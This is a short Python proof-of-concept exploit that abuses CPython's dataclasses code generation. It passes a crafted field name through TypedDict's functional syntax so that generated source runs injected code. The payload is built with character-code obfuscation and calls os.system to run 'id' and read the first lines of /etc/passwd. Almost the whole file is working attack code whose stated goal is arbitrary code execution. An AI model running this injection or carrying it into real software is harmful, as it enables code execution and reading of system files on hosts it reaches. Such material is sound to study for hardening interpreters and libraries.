# source: CPython dataclasses._create_fn exec of generated source (field-name injection); typing.TypedDict functional syntax accepts any string keys
# family: class factory with data-driven attribute names (TypedDict) -> __annotations__ -> dataclasses exec code injection
# goal: arbitrary code execution: os.system("id; head -3 /etc/passwd")
import typing
import dataclasses


def s(codes):
    return "".join(map(chr, codes))


IMP = s([95, 95]) + "import" + s([95, 95])
CODE = IMP + "('os').system('id; head -3 /etc/passwd')"
N = "a)" + chr(34) + chr(10) + " " + CODE + "#"
T = typing.TypedDict("T", {N: int})
try:
    dataclasses.dataclass(T, init=False, eq=False)
except Exception as e:
    print("after:", type(e).__name__, e)
